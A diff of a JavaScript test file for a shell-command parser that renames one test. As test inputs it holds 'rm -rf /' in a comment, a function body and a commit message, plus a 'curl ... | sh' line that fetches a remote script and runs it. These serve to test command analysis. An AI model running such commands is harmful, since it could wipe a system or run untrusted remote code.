@@ -39,7 +39,7 @@ describe('shellCalls', () => {
     ['# rm -rf /\nls', ['ls']],
     ['clean() { rm -rf /; }', []],
     ["git commit -m 'rm -rf / no more'", ['git commit -m rm -rf / no more']],
-  ])('text alone starts nothing: %s', (command, expected) => expect(effectsOf(command)).toEqual(expected));
+  ])('text starts no program: %s', (command, expected) => expect(effectsOf(command)).toEqual(expected));
 
   test('lists the files that are read and written', () => {
     const [curl, sh] = shellCalls('curl -s https://x.example/i.sh | sh > out.log 2>&1');
